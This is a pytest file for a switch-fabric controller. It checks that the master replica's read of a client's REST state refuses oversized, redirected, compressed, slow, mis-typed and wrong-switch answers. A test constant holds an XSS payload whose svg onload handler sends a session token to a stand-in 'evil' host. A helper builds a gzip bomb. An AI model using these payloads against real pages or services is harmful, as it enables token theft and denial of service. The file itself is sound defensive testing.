"""`GET /v1/switch/NAME` reading the switch client's own `/v1/state` (controller.clientfetch, tester finding 1):
where it looks (proto.restaddr: the client's REST on 127.0.0.1:<rest_port>, not the address its datagrams
come from), and what an answer from whoever listens there can cost the replica (size, time, redirects,
compression, shape). In-process master on loopback; the squatters are stdlib HTTP servers on 127.0.0.0/8."""

from __future__ import annotations

import asyncio
import functools
import gzip
import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from client.rest import RestServer as ClientRestServer
from controller.clientfetch import MAX_DEPTH, MAX_TEXT, Refused, check_state
from controller.server import MasterServer
from proto.restaddr import MAX_STATE, shares_namespace
from tests.harness.loopcluster import free_ports
from tests.test_page import _ps, _report, _run, _until

LEAF1_ID = 3                     # spine-1, spine-2, leaf-1: rest_port = base + id
LAB_SOURCE = "127.1.0.3"         # lab.labconfig.client_cpn_address of leaf-1
STATE = {"switch": "leaf-1", "term": 1, "lsd_version": 7, "ports": [{"port": 1, "nd": "up"}]}
# what tester bb40 (F13) had a squatter answer: markup where the page expects numbers, run as script there
XSS = {"switch": "leaf-1", "term": 1, "lsd_version": 5, "programmed_version": "<img src=x onerror=alert(1)>",
       "ports": [{"port": "<svg onload=fetch(`//evil/?t=`+sessionStorage.getItem(`fp-token`))>", "peer": "spine-1:1"}]}


# ------------------------------------------------------------------------------------------------ units
def test_check_state_relays_only_a_state_of_this_switch() -> None:
    assert check_state(json.dumps(STATE).encode(), "leaf-1") == STATE
    deep: Any = 1
    for _ in range(MAX_DEPTH + 1):
        deep = [deep]
    for raw, words in ((b"\xff{", "not JSON"), (b"[" * 100_000, "not JSON"), (b"[1]", "not an object"),
                       (json.dumps({**STATE, "switch": "leaf-2"}).encode(), "not the state of leaf-1"),
                       (json.dumps({**STATE, "term": True}).encode(), "term is not an integer"),
                       (json.dumps({**STATE, "lsd_version": "7"}).encode(), "lsd_version is not an integer"),
                       (json.dumps({**STATE, "ports": {"1": {}}}).encode(), "ports is not a list"),
                       (json.dumps({**STATE, "x": deep}).encode(), "nested more than")):
        with pytest.raises(Refused, match=words):
            check_state(raw, "leaf-1")


def _real_state() -> dict[str, Any]:
    """A real client's `/v1/state` (client.core status plus the programmer's fields, as client.daemon merges)."""
    from client.core import ClientCore
    from proto.auth import KeyRing
    from proto.clos import clos_fabric

    fabric = clos_fabric(pods=0, leaves=2, spines=2, masters=1)
    core = ClientCore(fabric, "leaf-1", KeyRing.from_secret(b"k" * 32), now=0.0)
    return json.loads(json.dumps({**core.status(0.1), "programmed_version": -1, "routes": 0, "groups": 0,
                                  "excluded_ports": [], "drained_switches": []}))


def test_check_state_relays_only_the_types_the_page_and_commands_expect() -> None:
    """Tester bb40 F13: a string of markup where the page shows a number was relayed, and the page ran it. Every
    field the page or an operator command shows must have its type (an integer is not a string nor a boolean,
    a string is at most MAX_TEXT characters); the error names the field, never its value."""
    real = _real_state()
    assert real["ports"] and "master" in real and "connected" in real
    assert check_state(json.dumps(real).encode(), "leaf-1") == real          # a real client's state passes
    port0 = real["ports"][0]
    for doc, words in (
            (XSS, "programmed_version is not an integer (got a string)"),
            ({**XSS, "programmed_version": 3}, "ports[0].port is not an integer (got a string)"),
            ({**real, "term": 1.5}, "term is not an integer (got a fraction)"),
            ({**real, "programmed_version": True}, "programmed_version is not an integer (got a boolean)"),
            ({**real, "master": ["<b>"]}, "master is not a string or null (got a list)"),
            ({**real, "master": "m" * (MAX_TEXT + 1)}, f"master is longer than {MAX_TEXT} characters"),
            ({**real, "connected": "<b>yes</b>"}, "connected is not true or false (got a string)"),
            ({**real, "fail_static": 1}, "fail_static is not true or false (got an integer)"),
            ({**real, "routes": "<i>"}, "routes is not an integer"),
            ({**real, "ports": [port0, {**port0, "peer": {"x": 1}}]}, "ports[1].peer is not a string (got an object)"),
            ({**real, "ports": [{**port0, "phy": "<img>"}]}, "ports[0].phy is not true or false or null"),
            ({**real, "ports": [{**port0, "miscabled_by": 7}]}, "ports[0].miscabled_by is not a string or null"),
            ({k: v for k, v in real.items() if k != "lsd_version"}, "no lsd_version")):
        with pytest.raises(Refused, match=re.escape(words)) as e:
            check_state(json.dumps(doc).encode(), "leaf-1")
        assert "<" not in str(e.value), e.value                               # the value is never quoted
    # a field no page or command shows is relayed as it is (the page shows it only in its escaped raw JSON)
    assert check_state(json.dumps({**real, "extra": "<b>x</b>"}).encode(), "leaf-1")["extra"] == "<b>x</b>"


def test_shares_namespace() -> None:
    assert shares_namespace("127.0.0.1") and shares_namespace(LAB_SOURCE) and shares_namespace("::1")
    assert not shares_namespace("10.0.0.3") and not shares_namespace("192.0.2.1") and not shares_namespace("x")


# ------------------------------------------------------------------------------------------------ squatters
class Squatter(ThreadingHTTPServer):
    """Answers GET with what `mode` says; `hits` counts the requests it got."""
    daemon_threads = True

    def __init__(self, host: str, port: int, mode: str, master_port: int = 0) -> None:
        self.mode, self.master_port, self.hits = mode, master_port, 0
        self.stop_event = threading.Event()
        super().__init__((host, port), _SquatHandler)


class _SquatHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Squatter

    def log_message(self, *args: Any) -> None:
        pass

    def _answer(self, body: bytes, *headers: tuple[str, str], length: bool = True) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        for k, v in headers:
            self.send_header(k, v)
        if length:
            self.send_header("Content-Length", str(len(body)))
        else:
            self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        self.server.hits += 1
        mode = self.server.mode
        big = _big()
        if mode == "state":
            self._answer(json.dumps({**STATE, "from": "squatter"}).encode())
        elif mode == "big":
            self._answer(big)
        elif mode == "big_no_length":                       # close-delimited: no Content-Length to refuse
            self._answer(big, length=False)
        elif mode == "redirect":
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{self.server.master_port}/v1/keys")
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif mode == "gzip":                                # a small bomb: 20 KiB on the wire, 20 MiB inside
            self._answer(_bomb(), ("Content-Encoding", "gzip"))
        elif mode == "xss":
            self._answer(json.dumps(XSS).encode())
        elif mode == "other_switch":
            self._answer(json.dumps({**STATE, "switch": "leaf-2"}).encode())
        elif mode == "trickle":                             # headers, then one byte a while, forever
            self.send_response(200)
            self.send_header("Content-Length", "1000000")
            self.end_headers()
            while not self.server.stop_event.wait(0.05):
                try:
                    self.wfile.write(b" ")
                    self.wfile.flush()
                except OSError:
                    return


@functools.cache
def _big() -> bytes:
    return json.dumps({**STATE, "pad": "x" * (5 * MAX_STATE)}).encode()


@functools.cache
def _bomb() -> bytes:
    return gzip.compress(b'{"switch": "leaf-1", "pad": "' + b" " * (20 << 20) + b'"}', 1)


@pytest.fixture
def squat() -> Iterator[Any]:
    started: list[Squatter] = []
    _big(), _bomb()                 # built before any read starts its 1 s

    def start(host: str, port: int, mode: str, master_port: int = 0) -> Squatter:
        s = Squatter(host, port, mode, master_port)
        threading.Thread(target=s.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        started.append(s)
        return s

    yield start
    for s in started:
        s.stop_event.set()
        s.shutdown()
        s.server_close()


# ------------------------------------------------------------------------------------------------ over HTTP
def test_the_master_reads_the_client_where_it_listens_not_where_its_datagrams_come_from(
        tmp_path: Path, squat: Any) -> None:
    """Lab: a client's datagrams come from 127.1.0.<id>, its REST is on 127.0.0.1:<rest_port>. The master
    read 127.1.0.<id>:<rest_port> — nobody legitimate listens there, so a squatter answered."""
    port = free_ports(1)[0]

    async def body(server: MasterServer, c: TestClient) -> None:
        squatter = squat(LAB_SOURCE, port, "state")
        _report(server, "leaf-1", [_ps(p) for p in server.fabric.fabric_ports("leaf-1")], 1, source=LAB_SOURCE)
        await _until(lambda: "leaf-1" in server.addresses)
        assert server.addresses["leaf-1"][0] == LAB_SOURCE
        rest = ClientRestServer(lambda: STATE, "127.0.0.1", port)
        rest.start()
        try:
            d = await (await c.get("/v1/switch/leaf-1")).json()
        finally:
            rest.stop()
        assert d["client"] == {"url": f"http://127.0.0.1:{port}/v1/state", "state": STATE}
        assert squatter.hits == 0
        # a switch heard from another host: its client's REST is on that host's 127.0.0.1, out of reach
        server.addresses["leaf-1"] = ("192.0.2.7", 40000)
        d = await (await c.get("/v1/switch/leaf-1")).json()
        assert "url" not in d["client"] and "not reachable from this replica" in d["client"]["error"]
        assert "--client-rest" in d["client"]["error"]

    _run(tmp_path, body, rest_base_port=port - LEAF1_ID)


@pytest.mark.parametrize(("mode", "words"), [
    ("big", f"answer of {len(json.dumps({**STATE, 'pad': 'x' * (5 * MAX_STATE)}))} bytes: more than {MAX_STATE}"),
    ("big_no_length", f"more than {MAX_STATE} bytes"),
    ("redirect", "HTTP 302: a redirect (not followed)"),
    ("gzip", "a compressed answer"),
    ("other_switch", "not the state of leaf-1's client: switch 'leaf-2'"),
    ("xss", "not the state of a switch client: programmed_version is not an integer (got a string)"),
    ("trickle", "no whole answer within 1 s"),
])
def test_a_squatter_costs_the_master_one_bounded_read(tmp_path: Path, squat: Any, mode: str, words: str) -> None:
    """Whoever listens on the client's REST port: an answer is refused past MAX_STATE bytes, a redirect is not
    followed (it led to this replica's own /v1/keys), nothing compressed is inflated, an answer of another
    switch is not relayed, and the whole read ends within the page's 1 s — while the replica keeps answering."""
    port = free_ports(1)[0]

    async def body(server: MasterServer, c: TestClient) -> None:
        squatter = squat("127.0.0.1", port, mode, master_port=c.server.port or 0)
        _report(server, "leaf-1", [_ps(p) for p in server.fabric.fabric_ports("leaf-1")], 1)
        await _until(lambda: "leaf-1" in server.addresses)
        lags: list[float] = []

        async def probe() -> None:             # the event loop keeps turning while the read goes on
            while True:
                t0 = time.monotonic()
                await asyncio.sleep(0.01)
                lags.append(time.monotonic() - t0 - 0.01)

        prober = asyncio.create_task(probe())
        t0 = time.monotonic()
        try:
            d = await (await c.get("/v1/switch/leaf-1")).json()
        finally:
            prober.cancel()
        took = time.monotonic() - t0
        assert d["client"]["url"] == f"http://127.0.0.1:{port}/v1/state" and "state" not in d["client"], d["client"]
        assert words in d["client"]["error"], d["client"]
        assert squatter.hits == 1 and took < 3.0, took
        assert max(lags, default=0.0) < 0.5, max(lags)

    _run(tmp_path, body, rest_base_port=port - LEAF1_ID)


def test_the_operator_commands_read_a_client_the_same_bounded_way(squat: Any) -> None:
    """`firepath clients|status --client-rest` (controller.ops.clientrest) reads the same URL by the same rule:
    no redirect followed, at most MAX_STATE bytes."""
    from controller.ops.clientrest import get_json, read_states

    port = free_ports(1)[0]
    squatter = squat("127.0.0.1", port, "redirect", master_port=free_ports(1)[0])
    assert "302" in str(get_json(f"http://127.0.0.1:{port}/v1/state", 2.0))
    squatter.mode = "big_no_length"
    assert read_states({"leaf-1": port}, 2.0) == {"leaf-1": f"answer of more than {MAX_STATE} bytes (refused)"}
    squatter.mode = "state"
    assert read_states({"leaf-1": port}, 2.0)["leaf-1"]["from"] == "squatter"      # the rule: 127.0.0.1:<port>
